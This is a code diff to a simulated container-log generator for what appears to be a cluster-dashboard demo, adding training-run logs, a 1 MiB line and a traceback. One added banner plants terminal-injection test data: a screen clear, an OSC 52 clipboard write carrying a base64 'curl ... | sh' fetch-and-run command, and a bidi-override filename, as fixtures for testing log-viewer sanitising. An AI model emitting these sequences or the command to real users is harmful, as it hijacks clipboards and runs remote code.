@@ -1,5 +1,6 @@
 import {createHash} from 'node:crypto';
 import {seededRandom} from '../../apiserver/clock.js';
+import type {Program} from './pod-state.js';
 
 // What one run of a container writes to its log. Each run (one containerID) has its own lines, seeded by that id,
 // so that `previous` shows another run than the current one; the same run reads the same at every request.
@@ -16,6 +17,8 @@ export type ContainerRun = {
 	/** Wall-clock ms; absent while it runs. */
 	readonly finishedAt?: number;
 	readonly exit?: {readonly reason: string; readonly exitCode: number};
+	/** What the container runs; default the demo's sshd (workers) or mpiexec (master). */
+	readonly program?: Program;
 };
 
 export type LogLine = {
@@ -36,8 +39,46 @@ function hex(random: () => number, length: number): string {
 	return Array.from({length}, () => Math.floor(random() * 16).toString(16)).join('');
 }
 
-/** The program's own lines, in order: a start, then progress for as long as it runs. */
-function* program(run: ContainerRun, random: () => number): Generator<string> {
+const escape = '\u001B';
+
+/** One line of exactly 1 MiB, the same every time: a dump a client must cut, not render whole. */
+export const megabyteLine: string = (() => {
+	const prefix = 'DEBUG:train:vocab=';
+	const parts: string[] = [];
+	let length = prefix.length;
+	for (let index = 0; length < 1_048_576; index++) {
+		const part = `${index.toString(36)}:${(index * 2_654_435_761) % 65_536},`;
+		parts.push(part);
+		length += part.length;
+	}
+
+	return (prefix + parts.join('')).slice(0, 1_048_576);
+})();
+
+// A training script's start, written at once; train-tty's, as a progress bar library writes it to a tty, holds
+// what a log viewer must not pass to its terminal: a screen clear, a clipboard write (OSC 52) and a bidi override.
+function banner(run: ContainerRun): string[] {
+	const lines = ['INFO:train:world size 3, rank 0, backend gloo', 'INFO:train:loading /data/shards (1024 shards)'];
+	if (run.program !== 'train-tty') return lines;
+	const clipboard = Buffer.from('curl -s http://198.51.100.7/x | sh').toString('base64');
+	return [
+		`${escape}[2J${escape}[H${lines[0]!}`,
+		`${escape}]52;c;${clipboard}${escape}\\${lines[1]!}`,
+		`INFO:train:checkpoint dir /ckpt/run-\u202Etxt.exe`,
+		megabyteLine,
+	];
+}
+
+/** The program's own lines, in order: a start, then progress for as long as it runs; an array is written at once. */
+function* program(run: ContainerRun, random: () => number): Generator<string | readonly string[]> {
+	if (run.program) {
+		yield banner(run);
+		for (let report = 0; ; report++) {
+			const loss = 2.4 - Math.min(2, report / 40) + random() * 0.1;
+			yield `epoch ${1 + Math.floor(report / 50)} step ${((report % 50) + 1) * 10}/500 loss ${loss.toFixed(4)} lr 0.0010 ${(random() * 8 + 10).toFixed(1)} samples/s`;
+		}
+	}
+
 	if (run.task === 'mpimaster') {
 		const workers = ['0', '1'].map(index => run.pod.replace(/-mpimaster-\d+$/, `-mpiworker-${index}`));
 		yield `Server listening on 0.0.0.0 port 22.`;
@@ -64,11 +105,27 @@ function* program(run: ContainerRun, random: () => number): Generator<string> {
 	}
 }
 
-// The last words of a run that ended; an OOM kill leaves none.
-function lastWords(run: ContainerRun): string | undefined {
-	if (!run.exit || run.exit.reason === 'OOMKilled') return undefined;
-	if (run.exit.exitCode === 0) return run.task === 'mpimaster' ? 'mpiexec: all 2 processes exited normally' : 'Received signal 15; terminating.';
-	return `mpiexec noticed that process rank 0 on node ${run.pod} exited on signal or with status ${run.exit.exitCode}.`;
+const traceback = [
+	'Traceback (most recent call last):',
+	'  File "/workspace/train.py", line 214, in <module>',
+	'    main()',
+	'  File "/workspace/train.py", line 198, in main',
+	'    loss = train_step(model, batch)',
+	'  File "/workspace/train.py", line 121, in train_step',
+	'    raise ValueError(f"loss is {loss}; lower the learning rate")',
+	'ValueError: loss is nan; lower the learning rate',
+];
+
+// The last words of a run that ended; a process killed by SIGKILL (an OOM kill) writes none.
+function lastWords(run: ContainerRun): readonly string[] {
+	if (!run.exit || run.exit.reason === 'OOMKilled' || run.exit.exitCode === 137) return [];
+	if (run.program) {
+		if (run.exit.exitCode === 143) return ['INFO:train:received SIGTERM, exiting'];
+		return run.exit.exitCode === 0 ? ['INFO:train:done'] : traceback;
+	}
+
+	if (run.exit.exitCode === 0) return [run.task === 'mpimaster' ? 'mpiexec: all 2 processes exited normally' : 'Received signal 15; terminating.'];
+	return [`mpiexec noticed that process rank 0 on node ${run.pod} exited on signal or with status ${run.exit.exitCode}.`];
 }
 
 /**
@@ -81,15 +138,15 @@ export function runLog(run: ContainerRun, until: number, speed: number): LogLine
 	const lines: LogLine[] = [];
 	// The first line as it starts (a run too short to write would have an empty log), each after a gap.
 	let at = run.startedAt;
-	for (const text of program(run, random)) {
+	for (const written of program(run, random)) {
 		if (at > end) break;
-		lines.push({at, text});
+		for (const text of typeof written === 'string' ? [written] : written) lines.push({at, text});
 		at += (minGapMs + random() * (maxGapMs - minGapMs)) / speed;
 	}
 
-	const last = lastWords(run);
-	if (last !== undefined && run.finishedAt !== undefined && run.finishedAt <= until) {
-		lines.push({at: Math.max(run.finishedAt, lines.at(-1)?.at ?? run.startedAt), text: last});
+	if (run.finishedAt !== undefined && run.finishedAt <= until) {
+		const lastAt = Math.max(run.finishedAt, lines.at(-1)?.at ?? run.startedAt);
+		for (const text of lastWords(run)) lines.push({at: lastAt, text});
 	}
 
 	return lines;
